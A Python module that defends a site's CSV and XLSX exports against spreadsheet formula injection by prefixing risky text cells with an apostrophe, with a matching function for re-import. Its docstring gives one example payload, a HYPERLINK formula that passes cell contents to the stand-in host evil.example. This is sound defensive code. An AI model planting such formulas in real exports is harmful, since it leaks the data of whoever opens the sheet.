"""The cells of the CSV and XLSX files the site writes (the open data and every admin export) hold no formula.

Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or "@" as a formula, and a tab or a
carriage return can hide one, so a record named =HYPERLINK("http://evil.example/?x="&A1,"click") could send the
rest of a researcher's sheet to another server, or run a command. Text that starts so gets a leading apostrophe, as
OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection): the spreadsheet shows it as text.

Numbers stay numbers: a longitude of -12.5 or a year is written as a number, never as text with an apostrophe. Only
text is changed; the admin export knows a number column by its widget (see CuratedResource.export_field).
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet cell may hold it: text that a spreadsheet would run as a formula gets a "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def from_safe_cell(value):
    """The text safe_cell() was given: a file the admin exported imports back unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
